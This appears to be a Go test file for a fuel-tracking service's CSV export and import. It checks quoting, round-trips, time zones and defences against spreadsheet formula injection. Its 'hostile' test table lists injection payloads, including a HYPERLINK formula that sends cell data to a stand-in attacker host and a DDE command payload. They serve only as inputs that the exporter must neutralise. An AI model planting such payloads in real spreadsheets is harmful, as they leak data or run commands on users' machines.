package refuelcsv

import (
	"bytes"
	"cmp"
	"encoding/csv"
	"encoding/json"
	"io"
	"os/exec"
	"strconv"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"golang.org/x/text/language"

	"github.com/carhub/backend/services/fuel/internal/csvfile"
	"github.com/carhub/backend/services/fuel/internal/fuel"
)

// export writes the header and rs, and returns the file.
func export(tb testing.TB, rs []fuel.Refuel) string {
	tb.Helper()
	var buf bytes.Buffer
	writeAll(tb, NewWriter(&buf), rs)
	return buf.String()
}

// writeAll writes the header and rs with w, and flushes it.
func writeAll(tb testing.TB, w *Writer, rs []fuel.Refuel) {
	tb.Helper()
	if err := w.WriteHeader(); err != nil {
		tb.Fatal(err)
	}
	for _, r := range rs {
		if err := w.Write(r); err != nil {
			tb.Fatal(err)
		}
	}
	if err := w.Flush(); err != nil {
		tb.Fatal(err)
	}
}

// awkward are texts that need quoting, or whose bytes a writer or reader
// is tempted to change.
var awkward = []string{
	"line\nbreak",
	"crlf\r\nline",
	"lone\rcr",
	"\nstarts with a line break",
	"ends with a line break\n",
	`say "hi"`,
	`""`,
	"a, b",
	"  leading spaces",
	"trailing spaces  ",
	"\ttab first",
	"Grüße, 加油站 🚗",
	"\u00a0no-break space first",
	`\.`,
	"",
	"plain",
}

// TestExportRFC4180 reads the export with Python's csv module, an RFC 4180
// reader that is not Go's, and wants every field back byte for byte. No
// python3 is a failure: CI has it.
func TestExportRFC4180(t *testing.T) {
	python, err := exec.LookPath("python3")
	if err != nil {
		t.Fatalf("python3 is needed to check the export with another CSV reader: %v", err)
	}
	at := time.Date(2026, 3, 1, 8, 0, 0, 123456000, time.UTC)
	var in []fuel.Refuel
	want := [][]string{Header}
	// The one text of awkward that is neutralised (a tab first).
	cell := func(s string) string {
		if s == "\ttab first" {
			return "'" + s
		}
		return s
	}
	for i, s := range awkward {
		station := awkward[len(awkward)-1-i]
		in = append(in, fuel.Refuel{
			ID: 9, VehicleID: 7, RefuelTime: at, Odometer: dec("100.5"), FuelType: "E10", Energy: fuel.Electricity,
			Liters: dec("40"), TotalAmount: dec("60"), PricePerLiter: dec("1.5"), StationName: station,
			IsFull: true, Remark: s, CreatedAt: at, UpdatedAt: at,
		})
		want = append(want, []string{
			"9", "7", "2026-03-01T08:00:00.123456Z", "100.5", "E10", "electricity", "kWh", "40", "60", "1.5",
			cell(station), "true", "false", cell(s), "2026-03-01T08:00:00.123456Z", "2026-03-01T08:00:00.123456Z", "", "",
		})
	}
	file := export(t, in)

	const script = `import csv, io, json, sys
rows = list(csv.reader(io.TextIOWrapper(sys.stdin.buffer, encoding="utf-8", newline="")))
sys.stdout.write(json.dumps(rows))`
	cmd := exec.Command(python, "-c", script)
	cmd.Stdin = strings.NewReader(file)
	var stderr bytes.Buffer
	cmd.Stderr = &stderr
	out, err := cmd.Output()
	if err != nil {
		t.Fatalf("python3: %v\n%s", err, stderr.String())
	}
	var got [][]string
	if err := json.Unmarshal(out, &got); err != nil {
		t.Fatalf("python3 answered %q: %v", out, err)
	}
	if len(got) != len(want) {
		t.Fatalf("python3 read %d records, want %d:\n%q", len(got), len(want), got)
	}
	for i := range want {
		if len(got[i]) != len(want[i]) {
			t.Errorf("record %d: %d fields, want %d: %q", i, len(got[i]), len(want[i]), got[i])
			continue
		}
		for j := range want[i] {
			if got[i][j] != want[i][j] {
				t.Errorf("record %d field %s: python3 read %q, want %q", i, Header[j], got[i][j], want[i][j])
			}
		}
	}
	// Records end with CRLF, the file too.
	if !strings.HasSuffix(file, "\r\n") || strings.Count(file, "\r\n") < len(want) {
		t.Errorf("records do not end with CRLF: %q", file)
	}
}

// hourly is a refuel of vehicle 7 per text, an hour apart, the text its
// station and remark, and its fuel type unless fuelType is given; ids
// from 1, odometer 1000.5, 40.25 l for 60.
func hourly(texts []string, fuelType string) []fuel.Refuel {
	at := time.Date(2026, 3, 1, 8, 0, 0, 0, time.UTC)
	rs := make([]fuel.Refuel, len(texts))
	for i, s := range texts {
		rs[i] = fuel.Refuel{
			ID: uint64(i + 1), VehicleID: 7, RefuelTime: at.Add(time.Duration(i) * time.Hour), Odometer: dec("1000.5"),
			FuelType: cmp.Or(fuelType, s), Energy: fuel.Gasoline, Liters: dec("40.25"), TotalAmount: dec("60"), PricePerLiter: dec("1.491"),
			StationName: s, Remark: s, IsFull: true, CreatedAt: at, UpdatedAt: at,
		}
	}
	return rs
}

// TestExportGoRoundTrip reads the same export with our own import: it
// returns a CRLF inside a field as LF (encoding/csv's reader does) and
// trims the texts' leading and trailing white space (but for a
// neutralised text, whose apostrophe comes first).
func TestExportGoRoundTrip(t *testing.T) {
	in := hourly(awkward, "E10")
	res := mustRead(t, export(t, in), Options{})
	if len(res.Refuels) != len(in) || res.BadRows != 0 {
		t.Fatalf("%d refuels, %d bad rows: %+v", len(res.Refuels), res.BadRows, res.Errors)
	}
	for i, r := range res.Refuels {
		want := strings.TrimSpace(strings.ReplaceAll(awkward[i], "\r\n", "\n"))
		if awkward[i] == "\ttab first" {
			want = awkward[i]
		}
		if r.Remark != want || r.StationName != want {
			t.Errorf("row %d: remark %q station %q, want %q", i+2, r.Remark, r.StationName, want)
		}
		if !r.RefuelTime.Equal(in[i].RefuelTime) || r.Energy != fuel.Gasoline {
			t.Errorf("row %d: %s %s", i+2, r.RefuelTime, r.Energy)
		}
	}
}

// FuzzWrite writes arbitrary texts: encoding/csv's reader must get them
// back unchanged but for CRLF read as LF (see TestExportRFC4180 for a
// reader that changes nothing) and at most one apostrophe first, which
// restore takes off; no cell may start like a formula; and the file must
// stay one record a row.
func FuzzWrite(f *testing.F) {
	for _, s := range awkward {
		f.Add(s, "station")
	}
	f.Add("\r\r\n", "\"\r")
	f.Fuzz(func(t *testing.T, remark, station string) {
		r := fuel.Refuel{ID: 1, VehicleID: 2, Energy: fuel.CNG, Odometer: dec("1"), Liters: dec("2"), TotalAmount: dec("3"),
			StationName: station, Remark: remark}
		file := export(t, []fuel.Refuel{r, r})
		if !strings.HasSuffix(file, "\r\n") {
			t.Fatalf("file does not end with CRLF: %q", file)
		}
		recs, err := csv.NewReader(strings.NewReader(file)).ReadAll()
		if err != nil {
			t.Fatalf("read back: %v\n%q", err, file)
		}
		if len(recs) != 3 {
			t.Fatalf("%d records, want 3: %q", len(recs), file)
		}
		for _, rec := range recs[1:] {
			if rec[6] != "kg" || csvfile.Restore(rec[10]) != strings.ReplaceAll(station, "\r\n", "\n") || csvfile.Restore(rec[13]) != strings.ReplaceAll(remark, "\r\n", "\n") {
				t.Fatalf("read back %q, want station %q remark %q", rec, station, remark)
			}
			for _, c := range []string{rec[10], rec[13]} {
				if formulaLike(c) {
					t.Fatalf("cell %q starts like a formula", c)
				}
			}
		}
	})
}

// TestSpreadsheetExport: for a spreadsheet, the file starts with a UTF-8
// byte order mark and, in a decimal-comma language, separates with
// semicolons and writes decimal commas; Read takes both back unchanged.
func TestSpreadsheetExport(t *testing.T) {
	at := time.Date(2026, 3, 1, 8, 0, 0, 0, time.UTC)
	in := []fuel.Refuel{
		{ID: 9, VehicleID: 7, RefuelTime: at, Odometer: dec("17059.046"), FuelType: "diesel", Energy: fuel.Diesel,
			Liters: dec("40.25"), TotalAmount: dec("60"), PricePerLiter: dec("1.491"), StationName: "Müller; Straße",
			IsFull: true, Remark: "a, b; c", CreatedAt: at, UpdatedAt: at},
		{ID: 10, VehicleID: 7, RefuelTime: at.Add(time.Hour), Odometer: dec("17500"), FuelType: "diesel", Energy: fuel.Diesel,
			Liters: dec("35"), TotalAmount: dec("52.5"), PricePerLiter: dec("1.5"), IsFull: false, CreatedAt: at, UpdatedAt: at},
	}
	for _, tc := range []struct {
		decimalComma bool
		head, row    string
	}{
		{true, "\ufeffid;vehicle_id;refuel_time;odometer_km;", "9;7;2026-03-01T08:00:00Z;17059,046;diesel;diesel;l;40,25;60;1,491;\"Müller; Straße\";true;false;\"a, b; c\";"},
		{false, "\ufeffid,vehicle_id,refuel_time,odometer_km,", "9,7,2026-03-01T08:00:00Z,17059.046,diesel,diesel,l,40.25,60,1.491,Müller; Straße,true,false,\"a, b; c\","},
	} {
		var buf bytes.Buffer
		writeAll(t, NewSpreadsheetWriter(&buf, tc.decimalComma), in)
		lines := strings.Split(buf.String(), "\r\n")
		if !strings.HasPrefix(lines[0], tc.head) || !strings.HasPrefix(lines[1], tc.row) {
			t.Errorf("decimal comma %t:\n%s\n%s\nwant prefixes\n%s\n%s", tc.decimalComma, lines[0], lines[1], tc.head, tc.row)
		}
		res, err := Read(&buf, Options{VehicleID: 7, FuelType: "diesel"})
		if err != nil || res.BadRows != 0 || len(res.Refuels) != len(in) {
			t.Fatalf("decimal comma %t: read back %+v, %v", tc.decimalComma, res, err)
		}
		for i, r := range res.Refuels {
			want := in[i]
			if !r.RefuelTime.Equal(want.RefuelTime) || !r.Odometer.Equal(want.Odometer) || !r.Liters.Equal(want.Liters) ||
				!r.TotalAmount.Equal(want.TotalAmount) || r.StationName != want.StationName || r.Remark != want.Remark || r.IsFull != want.IsFull {
				t.Errorf("decimal comma %t, row %d: read back %+v, want %+v", tc.decimalComma, i+2, r, want)
			}
		}
	}
}

func TestDecimalComma(t *testing.T) {
	for tag, want := range map[string]bool{
		"de-DE": true, "fr": true, "es": true, "ru": true, "pt-BR": true, "pl": true, "it": true,
		"en-US": false, "en-IE": false, "zh-CN": false, "ja": false, "de-CH": false, "und": false,
	} {
		if got := csvfile.DecimalComma(language.MustParse(tag)); got != want {
			t.Errorf("DecimalComma(%s) = %t, want %t", tag, got, want)
		}
	}
}

// formulaLike reports whether a spreadsheet could take cell for a formula:
// = + - @ or their full-width forms first, also after white space, or a
// tab or CR first (OWASP's list).
func formulaLike(cell string) bool {
	first, _ := utf8.DecodeRuneInString(strings.TrimLeftFunc(cell, unicode.IsSpace))
	return strings.ContainsRune("=+-@＝＋－＠", first) || strings.HasPrefix(cell, "\t") || strings.HasPrefix(cell, "\r")
}

// hostile are texts a spreadsheet would run, or that look like the
// neutralised form of one, and the cells an export must write for them.
var hostile = []struct{ text, cell string }{
	{`=HYPERLINK("http://e.vil/"&A1)`, `'=HYPERLINK("http://e.vil/"&A1)`},
	{"=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"},
	{"+49 170 1234567", "'+49 170 1234567"},
	{"-2+3", "'-2+3"},
	{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
	{"\t=1+1", "'\t=1+1"},
	{"\r=1+1", "'\r=1+1"},
	{"\tx", "'\tx"},
	{" =1+1", "' =1+1"},
	{"\u00a0@x", "'\u00a0@x"},
	{"＝1+1", "'＝1+1"},
	{"＋1", "'＋1"},
	{"－1", "'－1"},
	{"＠x", "'＠x"},
	{"'=already neutralised", "''=already neutralised"},
	{"'quoted", "''quoted"},
	{"''", "'''"},
	{"'", "''"},
	{" 'spaced", "' 'spaced"},
	{"a=b", "a=b"},
	{"1-2", "1-2"},
	{"plain", "plain"},
	{"Grüße", "Grüße"},
}

func TestNeutralize(t *testing.T) {
	for _, h := range hostile {
		if got := csvfile.Neutralize(h.text); got != h.cell {
			t.Errorf("csvfile.Neutralize(%q) = %q, want %q", h.text, got, h.cell)
		}
		if got := csvfile.Restore(h.cell); got != h.text {
			t.Errorf("csvfile.Restore(%q) = %q, want %q", h.cell, got, h.text)
		}
	}
	if got := csvfile.Neutralize(""); got != "" {
		t.Errorf("csvfile.Neutralize(\"\") = %q", got)
	}
}

// TestExportNeutralizesFormulas writes hostile texts with every writer,
// the plain one too (the web client's Export downloads it as a .csv that
// a spreadsheet opens): each text cell is written neutralised, each number
// as it is, and Read gives the texts back unchanged.
func TestExportNeutralizesFormulas(t *testing.T) {
	texts := make([]string, len(hostile))
	for i, h := range hostile {
		texts[i] = h.text
	}
	in := hourly(texts, "")
	writers := []struct {
		name  string
		new   func(io.Writer) *Writer
		comma rune
		odo   string
	}{
		{"plain", NewWriter, ',', "1000.5"},
		{"spreadsheet", func(w io.Writer) *Writer { return NewSpreadsheetWriter(w, false) }, ',', "1000.5"},
		{"spreadsheet with decimal comma", func(w io.Writer) *Writer { return NewSpreadsheetWriter(w, true) }, ';', "1000,5"},
	}
	for _, wr := range writers {
		t.Run(wr.name, func(t *testing.T) {
			var buf bytes.Buffer
			writeAll(t, wr.new(&buf), in)
			cr := csv.NewReader(bytes.NewReader(buf.Bytes()))
			cr.Comma = wr.comma
			recs, err := cr.ReadAll()
			if err != nil || len(recs) != len(in)+1 {
				t.Fatalf("%d records, %v", len(recs), err)
			}
			for i, rec := range recs[1:] {
				want := hostile[i].cell
				if rec[4] != want || rec[10] != want || rec[13] != want {
					t.Errorf("row %d: fuel_type %q station %q remark %q, want %q", i+2, rec[4], rec[10], rec[13], want)
				}
				if rec[3] != wr.odo || rec[0] != strconv.Itoa(i+1) {
					t.Errorf("row %d: id %q odometer %q, want numbers as they are", i+2, rec[0], rec[3])
				}
			}
			res, err := Read(bytes.NewReader(buf.Bytes()), Options{VehicleID: 7, FuelType: "gasoline"})
			if err != nil || res.BadRows != 0 || len(res.Refuels) != len(in) {
				t.Fatalf("read back %d refuels, bad rows %v, %v", len(res.Refuels), res.Errors, err)
			}
			for i, r := range res.Refuels {
				h := hostile[i].text
				if r.FuelType != h || r.StationName != h || r.Remark != h || !r.Odometer.Equal(dec("1000.5")) || !r.Liters.Equal(dec("40.25")) {
					t.Errorf("row %d: read back fuel_type %q station %q remark %q odometer %s liters %s, want %q",
						i+2, r.FuelType, r.StationName, r.Remark, r.Odometer, r.Liters, h)
				}
			}
		})
	}
	// Numbers are never neutralised, a negative one neither (the service
	// stores none, but the writer does not rely on that).
	neg := in[0]
	neg.Odometer, neg.TotalAmount = dec("-5"), dec("-0.5")
	recs, err := csv.NewReader(strings.NewReader(export(t, []fuel.Refuel{neg}))).ReadAll()
	if err != nil || recs[1][3] != "-5" || recs[1][8] != "-0.5" {
		t.Fatalf("negative numbers written as %q, %v; want -5 and -0.5", recs, err)
	}
}

// TestReadKeepsOtherProgramsApostrophes: only this service's own export is
// neutralised; a Fuelly or LubeLogger note that starts with an apostrophe
// is kept as it is, and a formula in one is stored as text (the next
// export neutralises it).
func TestReadKeepsOtherProgramsApostrophes(t *testing.T) {
	lube := "Date,Odometer,FuelConsumed,Cost,Notes\n2024-09-02,12000,40.5,70.47,'quoted\n2024-09-03,12100,40.5,70.47,=1+1\n"
	res := mustRead(t, lube, Options{})
	if res.BadRows != 0 || len(res.Refuels) != 2 || res.Refuels[0].Remark != "'quoted" || res.Refuels[1].Remark != "=1+1" {
		t.Fatalf("LubeLogger notes read as %+v", res)
	}
	native := "refuel_time,odometer_km,fuel_type,liters,total_amount,is_full,remark\n2024-09-02T08:00:00Z,12000,95,40.5,70.47,true,'quoted\n"
	if got := mustRead(t, native, Options{}).Refuels[0].Remark; got != "quoted" {
		t.Fatalf("our own format: remark %q, want the apostrophe taken off", got)
	}
}

// BenchmarkWrite writes 1000 refuels: the cost of an export's encoding,
// neutralize included (go test -bench Write ./services/fuel/internal/refuelcsv/).
func BenchmarkWrite(b *testing.B) {
	at := time.Date(2026, 3, 1, 8, 0, 0, 0, time.UTC)
	rs := make([]fuel.Refuel, 1000)
	for i := range rs {
		rs[i] = fuel.Refuel{ID: uint64(i + 1), VehicleID: 7, RefuelTime: at, Odometer: dec("12345.6"), FuelType: "E10", Energy: fuel.Gasoline,
			Liters: dec("40.25"), TotalAmount: dec("60.1"), PricePerLiter: dec("1.4932"), StationName: "Aral Hauptstraße",
			Remark: "weekly fill-up", IsFull: true, CreatedAt: at, UpdatedAt: at}
		if i%10 == 0 {
			rs[i].Remark = "=HYPERLINK(\"x\")"
		}
	}
	b.ReportAllocs()
	for b.Loop() {
		w := NewWriter(io.Discard)
		for _, r := range rs {
			if err := w.Write(r); err != nil {
				b.Fatal(err)
			}
		}
		if err := w.Flush(); err != nil {
			b.Fatal(err)
		}
	}
}

// TestExportInOwnersZone: a Writer in a zone writes each time as that
// zone's wall clock with its offset, on both sides of the DST changes and
// west of UTC too, and Read finds the very instants again; without a zone
// the times stay UTC with Z. A time whose wall clock RFC 3339 cannot write
// (an offset with seconds, a year beyond 9999 there) is written in UTC.
func TestExportInOwnersZone(t *testing.T) {
	zone := func(name string) *time.Location {
		loc, err := time.LoadLocation(name)
		if err != nil {
			t.Fatal(err)
		}
		return loc
	}
	berlin, newYork, amsterdam := zone("Europe/Berlin"), zone("America/New_York"), zone("Europe/Amsterdam")
	utc := func(s string) time.Time {
		at, err := time.Parse(time.RFC3339Nano, s)
		if err != nil {
			t.Fatal(err)
		}
		return at
	}
	for _, tc := range []struct {
		name string
		loc  *time.Location
		at   string // UTC
		want string // the file's refuel_time
	}{
		{"Berlin, summer time", berlin, "2026-10-05T06:00:00Z", "2026-10-05T08:00:00+02:00"},
		{"Berlin, winter time", berlin, "2026-12-06T07:00:00.123456Z", "2026-12-06T08:00:00.123456+01:00"},
		{"Berlin, before the spring change", berlin, "2026-03-29T00:30:00Z", "2026-03-29T01:30:00+01:00"},
		{"Berlin, after the spring change", berlin, "2026-03-29T01:30:00Z", "2026-03-29T03:30:00+02:00"},
		{"Berlin, the autumn hour first", berlin, "2026-10-25T00:30:00Z", "2026-10-25T02:30:00+02:00"},
		{"Berlin, the autumn hour again", berlin, "2026-10-25T01:30:00Z", "2026-10-25T02:30:00+01:00"},
		{"New York, before the spring change", newYork, "2026-03-08T06:30:00Z", "2026-03-08T01:30:00-05:00"},
		{"New York, after the spring change", newYork, "2026-03-08T07:30:00Z", "2026-03-08T03:30:00-04:00"},
		{"New York, the day before in local time", newYork, "2026-01-01T02:00:00Z", "2025-12-31T21:00:00-05:00"},
		{"no zone", nil, "2026-10-05T06:00:00Z", "2026-10-05T06:00:00Z"},
		{"UTC", time.UTC, "2026-10-05T06:00:00Z", "2026-10-05T06:00:00Z"},
		{"Amsterdam's summer time of 1930, +01:19:32 (Format: +01:19)", amsterdam, "1930-06-01T07:40:28Z", "1930-06-01T07:40:28Z"},
		{"Berlin, the last hour of 9999", berlin, "9999-12-31T23:30:00Z", "9999-12-31T23:30:00Z"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			at := utc(tc.at)
			r := hourly([]string{"x"}, "E10")[0]
			r.RefuelTime, r.CreatedAt, r.UpdatedAt = at, at, at
			var buf bytes.Buffer
			writeAll(t, NewWriter(&buf).InZone(tc.loc), []fuel.Refuel{r})
			recs, err := csv.NewReader(&buf).ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			if got := recs[1]; got[2] != tc.want || got[14] != tc.want || got[15] != tc.want {
				t.Errorf("refuel_time, created_at, updated_at %q %q %q, want %q", got[2], got[14], got[15], tc.want)
			}
			// Read in another zone: the offset, not the zone, decides.
			res := mustRead(t, export(t, nil)+strings.Join(recs[1], ",")+"\r\n", Options{Location: newYork})
			if len(res.Refuels) != 1 || !res.Refuels[0].RefuelTime.Equal(at) {
				t.Fatalf("read back %+v, want %s", res, at)
			}
		})
	}
}
